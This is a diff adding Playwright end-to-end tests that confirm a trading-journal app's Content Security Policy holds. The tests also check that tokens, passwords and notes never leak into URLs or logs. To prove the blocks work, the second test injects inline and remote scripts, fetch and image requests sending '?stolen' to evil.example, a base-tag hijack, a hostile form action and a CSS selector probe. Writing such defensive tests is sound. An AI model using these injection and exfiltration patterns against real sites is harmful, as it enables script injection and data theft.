@@ -1,0 +1,130 @@
+import { chooseFiles, controls, fillTrade } from '../src/add-trade.ts';
+import { png } from '../src/media.ts';
+import { expect, type Page, test } from '../src/test.ts';
+import { signIn } from '../src/traders.ts';
+
+/** What the page's policy forbade, of whatever page the tab shows. */
+const watchViolations = async (page: Page): Promise<string[]> => {
+  const violations: string[] = [];
+  await page.exposeFunction('noteViolation', (text: string) => violations.push(text));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+      const { noteViolation } = window as unknown as { noteViolation(text: string): void };
+      noteViolation(`${effectiveDirective} ${blockedURI}`);
+    });
+  });
+  return violations;
+};
+
+/** The addresses of all that is asked for, and the tokens that were sent. */
+const watchRequests = (page: Page) => {
+  const [urls, tokens] = [[] as string[], new Set<string>()];
+  page.on('request', (request) => {
+    urls.push(request.url());
+    const token = request.headers().authorization?.replace('Bearer ', '');
+    if (token) tokens.add(token);
+  });
+  return { urls, tokens };
+};
+
+const note = 'nobody else may read this note';
+
+const addTradeWithPicture = async (page: Page): Promise<void> => {
+  await page.goto('/add-trade');
+  await fillTrade(page, 'hidden');
+  await controls(page).notes.fill(note);
+  await chooseFiles(page, [png('chart.png')]);
+  await controls(page).save.click();
+  await page.waitForURL(/\/trades(\?|$)/);
+  await page.goto('/trades/1');
+  await page.getByRole('button', { name: 'Enlarge chart.png' }).click();
+  await expect(page.getByRole('dialog').getByRole('img', { name: 'chart.png' })).toBeVisible();
+};
+
+test('API-18 the whole product works under its policy; no address and no log line holds a token, a password or a note', async ({
+  page,
+  stack,
+  trader,
+}) => {
+  const violations = await watchViolations(page);
+  const { urls, tokens } = watchRequests(page);
+  await signIn(page, trader);
+  await addTradeWithPicture(page);
+  for (const path of ['/', '/trades', '/dashboard', '/analysis', '/manage-flags', '/account']) {
+    await page.goto(path);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await page.waitForLoadState('networkidle');
+  }
+  expect(violations).toEqual([]);
+  expect(tokens.size).toBeGreaterThan(0);
+  const said = urls.join('\n');
+  const logged = stack
+    .logs()
+    .split('\n')
+    .filter((line) => /^(api|web|identity)/.test(line));
+  expect(logged.some((line) => line.includes('POST /api/trades 201'))).toBe(true);
+  for (const secret of [...tokens, trader.password, note, encodeURIComponent(note)]) {
+    expect(said.includes(secret)).toBe(false);
+    expect(logged.some((line) => line.includes(secret))).toBe(false);
+  }
+});
+
+test.describe('what gets into a page all the same', () => {
+  test.use({ allowedComplaints: /Content Security Policy|Framing|Permissions policy|Refused/i });
+
+  test('API-18 can run no script, ask nobody, send nothing and show the product in no frame', async ({
+    page,
+    stack,
+  }) => {
+    const violations = await watchViolations(page);
+    await page.goto('/signin');
+    const forbidden = async (directive: string, attempt: () => void) => {
+      await page.evaluate(attempt);
+      await expect.poll(() => violations.some((each) => each.startsWith(directive)), directive).toBe(true);
+    };
+    await forbidden('script-src-elem inline', () => {
+      const script = document.createElement('script');
+      script.textContent = 'document.title = "taken"';
+      document.body.append(script);
+    });
+    await forbidden('script-src-elem https://evil.example', () => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example/x.js';
+      document.body.append(script);
+    });
+    await forbidden('script-src-attr', () => {
+      document.body.insertAdjacentHTML('beforeend', '<b onclick="document.title = `taken`">x</b>');
+    });
+    await forbidden('script-src eval', () => {
+      // By itself: what Playwright asks for may evaluate.
+      setTimeout('document.title = "taken"');
+    });
+    await forbidden('style-src-elem inline', () => {
+      document.body.append(document.createElement('style'));
+      const style = document.body.lastElementChild as HTMLStyleElement;
+      style.textContent = 'input[value^=a] { background: red }';
+    });
+    await forbidden('connect-src', () => void fetch('https://evil.example/?stolen').catch(() => undefined));
+    await forbidden('img-src', () => {
+      new Image().src = 'https://evil.example/?stolen';
+    });
+    await forbidden('base-uri', () => {
+      const base = document.createElement('base');
+      base.href = 'https://evil.example/';
+      document.head.append(base);
+    });
+    await forbidden('object-src', () => {
+      document.body.insertAdjacentHTML('beforeend', '<object data="/x.swf"></object>');
+    });
+    await expect(page).toHaveTitle('Sign In · Trading Journal');
+    await forbidden('form-action', () => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.example/';
+      document.body.append(form);
+      form.requestSubmit();
+    });
+    const other = await page.context().newPage();
+    await other.setContent(`<iframe src="${stack.url}/signin"></iframe>`);
+    await expect(other.frameLocator('iframe').getByRole('heading', { name: 'Sign In' })).toHaveCount(0);
+  });
+});
